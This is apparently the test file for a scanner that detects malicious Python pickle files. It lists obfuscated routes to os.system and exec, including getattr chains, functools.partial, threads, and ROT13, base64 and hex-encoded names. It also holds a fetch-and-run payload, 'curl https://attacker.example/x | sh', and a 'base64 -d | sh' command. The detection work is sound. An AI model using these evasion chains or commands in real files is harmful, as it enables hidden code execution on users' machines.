import { describe, expect, test } from 'vitest';
import type { CallFact, CallOpcode } from '../../domain/fact';
import type { SymbolicValue } from '../../domain/symbol';
import { tellResolved } from './call-sentence';
import { valuesIn } from './configured-call';
import { resolveCall, resolveText } from './resolve-call';

const str = (value: string): SymbolicValue => ({ kind: 'str', value, length: value.length });
const bytes = (value: string): SymbolicValue => ({ kind: 'bytes', value, length: value.length });
const int = (value: number): SymbolicValue => ({ kind: 'int', value: String(value) });
const none: SymbolicValue = { kind: 'none' };
const list = (...items: SymbolicValue[]): SymbolicValue => ({ kind: 'list', items, truncated: false });
const tuple = (...items: SymbolicValue[]): SymbolicValue => ({ kind: 'tuple', items, truncated: false });
const dict = (...entries: [SymbolicValue, SymbolicValue][]): SymbolicValue => ({
  kind: 'dict',
  entries,
  truncated: false,
});
const name = (dotted: string): SymbolicValue => {
  const [module, attribute] = dotted.split(':');
  return { kind: 'global', module: module as string, name: attribute as string };
};
const call = (callee: SymbolicValue | string, ...items: SymbolicValue[]): SymbolicValue => ({
  kind: 'call',
  callee: typeof callee === 'string' ? name(callee) : callee,
  arguments: tuple(...items),
});
const factOf = (value: SymbolicValue, via: CallOpcode = 'REDUCE'): CallFact => {
  if (value.kind !== 'call') throw new Error('no call');
  return {
    kind: 'call',
    entryPath: [],
    range: { start: 0, end: 1 },
    via,
    callee: value.callee,
    arguments: value.arguments,
    readers: ['c', 'cFile', 'python'],
  };
};
const reached = (value: SymbolicValue, via?: CallOpcode) => {
  const resolved = resolveCall(factOf(value, via));
  return resolved && `${resolved.target} ${resolved.text}`;
};

const COMMAND = str('echo attacker');
const OS = call('importlib:import_module', str('os'));
const GETATTR = 'builtins:getattr';

describe('what a chain of calls amounts to', () => {
  test.each<readonly [string, SymbolicValue]>([
    ['getattr of an import', call(call(GETATTR, OS, str('system')), COMMAND)],
    [
      '__import__ of a submodule gives the package',
      call(call(GETATTR, call('builtins:__import__', str('os.path')), str('system')), COMMAND),
    ],
    [
      'os through another module',
      call(call(GETATTR, call(GETATTR, call('builtins:__import__', str('shutil')), str('os')), str('system')), COMMAND),
    ],
    ['getattr_static', call(call('inspect:getattr_static', OS, str('system')), COMMAND)],
    ['attrgetter', call(call(call('operator:attrgetter', str('system')), OS), COMMAND)],
    ['methodcaller', call(call('operator:methodcaller', str('system'), COMMAND), OS)],
    [
      'itemgetter of sys.modules',
      call(call(GETATTR, call(call('operator:itemgetter', str('os')), name('sys:modules')), str('system')), COMMAND),
    ],
    ['getitem of vars', call(call('operator:getitem', call('builtins:vars', OS), str('system')), COMMAND)],
    ['__dict__', call(call('builtins:dict.get', call(GETATTR, OS, str('__dict__')), str('system')), COMMAND)],
    ['resolve_name', call(call('pkgutil:resolve_name', str('os:system')), COMMAND)],
    ['locate', call(call('pydoc:locate', str('os.system')), COMMAND)],
    ['find_class', call(call('pickle:Unpickler.find_class', none, str('os'), str('system')), COMMAND)],
    ['partial', call(call('functools:partial', name('os:system'), COMMAND))],
    ['partial of partial', call(call('functools:partial', call('functools:partial', name('os:system')), COMMAND))],
    ['reduce of getattr', call(call('functools:reduce', name(GETATTR), list(OS, str('system'))), COMMAND)],
    ['operator.call', call('operator:call', name('os:system'), COMMAND)],
    ['map', call('builtins:map', name('os:system'), list(COMMAND))],
    ['starmap', call('itertools:starmap', name('os:system'), list(tuple(COMMAND)))],
    ['filter', call('builtins:filter', name('os:system'), tuple(COMMAND))],
    ['a thread', call('threading:Thread', none, name('os:system'), none, tuple(COMMAND))],
    [
      'submit',
      call(
        'concurrent.futures:ThreadPoolExecutor.submit',
        call('concurrent.futures:ThreadPoolExecutor'),
        name('os:system'),
        COMMAND,
      ),
    ],
    [
      'methodcaller of submit',
      call(
        call('operator:methodcaller', str('submit'), name('os:system'), COMMAND),
        call('concurrent.futures:ThreadPoolExecutor'),
      ),
    ],
    ['__call__', call('os:system.__call__', COMMAND)],
    ['a name in pieces', call(call(GETATTR, OS, call('operator:concat', str('sys'), str('tem'))), COMMAND)],
    ['a name from bytes', call(call(GETATTR, OS, call('builtins:bytes.decode', bytes('system'))), COMMAND)],
    ['a name in ROT13', call(call(GETATTR, OS, call('codecs:decode', str('flfgrz'), str('rot13'))), COMMAND)],
    [
      'a name of characters',
      call(
        call(
          GETATTR,
          OS,
          call(
            'builtins:str.join',
            str(''),
            call('builtins:map', name('builtins:chr'), list(...[...'system'].map((one) => int(one.charCodeAt(0))))),
          ),
        ),
        COMMAND,
      ),
    ],
    ['a command in base64', call('os:system', call('base64:b64decode', str(btoa('echo attacker'))))],
    [
      'a command in digits',
      call('os:system', call('builtins:bytes.decode', call('binascii:unhexlify', str('6563686f2061747461636b6572')))),
    ],
  ])('%s is os.system', (_, value) => expect(reached(value)).toBe('os.system echo attacker'));

  test('keywords of NEWOBJ_EX and threads count', () => {
    const keywords = dict([str('target'), name('os:system')], [str('args'), tuple(COMMAND)]);
    expect(
      reached({ kind: 'call', callee: name('threading:Thread'), arguments: tuple(tuple(), keywords) }, 'NEWOBJ_EX'),
    ).toBe('os.system echo attacker');
    const key = dict([str('key'), name('os:system')]);
    expect(
      reached({ kind: 'call', callee: name('builtins:max'), arguments: tuple(tuple(list(COMMAND)), key) }, 'NEWOBJ_EX'),
    ).toBe('os.system echo attacker');
  });

  test('exec out of the builtins of a module is exec', () => {
    expect(reached(call(call('builtins:dict.get', name('numpy:__builtins__'), str('exec')), str('print(1)')))).toBe(
      'builtins.exec print(1)',
    );
  });

  test.each<readonly [string, SymbolicValue]>([
    ['a class', call('numpy:ndarray', tuple(int(0)))],
    [
      'getattr of a harmless attribute',
      call(call(GETATTR, call('importlib:import_module', str('math')), str('sqrt')), int(4)),
    ],
    ['a name that is not known', call(call(GETATTR, OS, { kind: 'unknown', what: 'not known' }), COMMAND)],
    ['a value that is not known', call({ kind: 'unknown', what: 'not known' }, COMMAND)],
    ['map of len', call('builtins:map', name('builtins:len'), list(COMMAND))],
    ['partial that nobody calls', call('functools:partial', name('numpy:add'), COMMAND)],
    ['encoding a text', call('_codecs:encode', str('x'), str('latin1'))],
  ])('%s is nothing dangerous, or cannot be told', (_, value) => expect(resolveCall(factOf(value))).toBeNull());

  test('texts are worked out, and only by functions of texts', () => {
    expect(resolveText(call('operator:concat', str('o'), str('s')))).toBe('os');
    expect(resolveText(call('zlib:decompress', bytes('x\u009cKLJ\u0006\u0000\u0002M\u0001\u0027')))).toBeNull();
    expect(resolveText(call('builtins:open', str('/etc/passwd')))).toBeNull();
    expect(resolveText(call('os:getenv', str('HOME')))).toBeNull();
  });
});

describe('what is said of it', () => {
  test('the command, where it is reached, and what it does', () => {
    const fact = factOf(call(call(GETATTR, OS, str('system')), str('curl https://attacker.example/x | sh')));
    const resolved = resolveCall(fact);
    expect(resolved && tellResolved(fact, resolved, true)).toEqual({
      message:
        "Loading this file runs a shell command: curl https://attacker.example/x | sh. That is os.system, reached through builtins.getattr(importlib.import_module('os'), 'system'). It downloads a program from https[:]//attacker[.]example/x and runs it.",
      evidence: [{ kind: 'text', label: 'Command', text: 'curl https://attacker.example/x | sh' }],
    });
  });

  test('layers are evidence', () => {
    const fact = factOf(call('os:system', str(`echo ${btoa('echo inner')} | base64 -d | sh`)));
    const resolved = resolveCall(fact);
    expect(resolved && tellResolved(fact, resolved, true).evidence).toContainEqual({
      kind: 'text',
      label: 'Decoded',
      text: 'echo inner',
    });
    expect(resolved && tellResolved(fact, resolved, false).evidence).toHaveLength(1);
  });

  test.each([
    ['curl x', ['curl x']],
    ['[curl x]', ['curl x']],
    ['_args_=["id"]', ['id']],
    ['{args: [curl x], kwds: {shell: true}}', ['curl x', 'true']],
    ['{"name": "popen", "args": ["id", "-u"]}', ['id', '-u']],
    ['{"name": "system"}, called with [{"args": ["echo \\"a\\""], "kwargs": {}}]', ['echo "a"']],
    ['"echo x"', ['echo x']],
    ['', []],
  ])('arguments in a configuration: %s', (text, values) => expect(valuesIn(text)).toEqual(values));
});
